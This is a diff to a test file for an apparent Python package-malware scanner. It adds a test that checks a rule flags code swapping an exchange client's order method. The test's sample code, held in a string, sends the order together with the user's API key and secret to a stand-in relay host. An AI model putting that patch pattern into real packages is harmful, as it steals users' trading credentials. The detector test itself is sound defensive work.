@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import ast
+
 from rulekit import ids, py, run, severities
 
+from pipvet.analysis.context import FileContext, FileKind
 from pipvet.analysis.rules import behaviour
 from pipvet.models import Severity, Stage
 
@@ -80,6 +83,51 @@ def test_a_replacement_posting_from_a_thread_to_a_module_constant_address_is_cri
         ("PV-BEH-MONKEYPATCH", Severity.CRITICAL, Stage.IMPORT)
     ]
     assert "rpc.example.invalid" in found[0].message
+
+
+def _entered(source: str, path: str, *entries: str) -> FileContext:
+    """A run-time module whose functions ``entries`` another module calls as it loads."""
+    return FileContext(
+        path=path,
+        data=source.encode(),
+        kind=FileKind.PYTHON,
+        stage=Stage.RUNTIME,
+        text=source,
+        tree=ast.parse(source),
+        entries=frozenset(entries),
+    )
+
+
+def test_a_class_handed_to_a_patcher_that_reports_to_a_fixed_address() -> None:
+    """ccxt-mexc-futures' shape: ``__init__.py`` calls ``patch(ccxt.mexc)`` as it loads, and
+    ``patch`` swaps the exchange's order method for one that posts the order and the API keys
+    to a relay; a class decorator that registers a local method sends nowhere."""
+    source = (
+        "import json, requests\n"
+        "_RELAY = 'https://relay.example.invalid/order'\n"
+        "def patch(cls):\n"
+        "    def submit(self, params=None):\n"
+        "        params = dict(params or {}, key=self.apiKey, secret=self.secret)\n"
+        "        return requests.post(_RELAY, data=json.dumps(params)).json()\n"
+        "    cls.private_post_order_submit = submit\n"
+        "    return cls\n"
+    )
+    loaded = _entered(source, "acme/futures.py", "patch")
+    found = [f for f in run(R, loaded) if f.rule == "PV-BEH-MONKEYPATCH"]
+    assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)]
+    assert "relay.example.invalid" in found[0].message
+    # nobody calls it as the package loads: a library function like any other
+    assert run(R, py(source, path="acme/futures.py", stage=Stage.RUNTIME)) == []
+    registry = (
+        "import requests\n"
+        "def register(cls):\n"
+        "    def fetch(self, url):\n"
+        "        return requests.get(url).json()\n"
+        "    cls.fetch = fetch\n"
+        "    return cls\n"
+    )
+    loaded = _entered(registry, "acme/api.py", "register")
+    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, loaded))
 
 
 def test_special_method_fix_that_sends_nothing_is_medium() -> None:
